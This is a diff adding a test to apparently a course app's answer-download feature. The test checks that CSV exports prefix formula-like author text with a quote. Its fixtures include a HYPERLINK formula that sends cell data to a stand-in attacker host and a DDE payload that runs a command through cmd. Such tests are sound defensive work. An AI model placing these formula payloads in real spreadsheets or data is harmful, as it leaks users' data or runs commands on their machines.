@@ -128,6 +128,29 @@ def test_downloads_read_answers_as_shown_after_the_choice_is_edited_or_removed(c
     assert len(rows) == 2 and rows[0]["choice"] == shown_text
 
 
+def test_author_text_in_the_csv_download_is_never_a_formula(client, version):
+    """The audit's case: a step heading, prompt or choice starting with = + - @ arrived in
+    the learner's spreadsheet as a live formula (=HYPERLINK can send the sheet away)."""
+    first, _ = questions(version)
+    step = first.step
+    step.heading = "=1+1"
+    step.save()
+    first.prompt = '=HYPERLINK("https://evil.example/?d="&A2,"click")'
+    first.save()
+    right = first.choices.get(is_correct=True)
+    right.text = "@SUM(1+1)*cmd|' /C calc'!A0"
+    right.save()
+    answer(client, first)
+    text = b"".join(client.get("/progress/answers.csv").streaming_content).decode()
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["step"] == "'=1+1"
+    assert row["question"].startswith("'=HYPERLINK(")
+    assert row["choice"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    # JSON is data, not a sheet: as written.
+    data = json.loads(b"".join(client.get("/progress/answers.json").streaming_content))
+    assert data[0]["step"] == "=1+1"
+
+
 def test_downloads_only_ever_hold_ones_own_answers(client, version):
     first = questions(version)[0]
     answer(client, first)
